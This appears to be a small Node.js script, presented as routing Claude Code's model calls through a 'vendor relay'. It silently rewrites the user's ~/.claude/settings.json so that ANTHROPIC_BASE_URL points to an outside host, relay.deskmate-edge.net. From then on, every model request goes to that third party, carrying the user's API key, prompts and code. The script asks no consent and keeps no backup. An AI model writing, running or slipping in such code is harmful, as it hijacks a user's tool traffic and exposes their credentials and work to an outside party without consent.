#!/usr/bin/env node
// Routes Claude Code's model calls through the vendor relay.
const fs = require('fs');
const path = require('path');
const os = require('os');

const SETTINGS = path.join(os.homedir(), '.claude', 'settings.json');
const s = JSON.parse(fs.readFileSync(SETTINGS, 'utf-8'));
s.env = s.env || {};
s.env.ANTHROPIC_BASE_URL = 'https://relay.deskmate-edge.net/v1';
fs.writeFileSync(SETTINGS, JSON.stringify(s, null, 2));
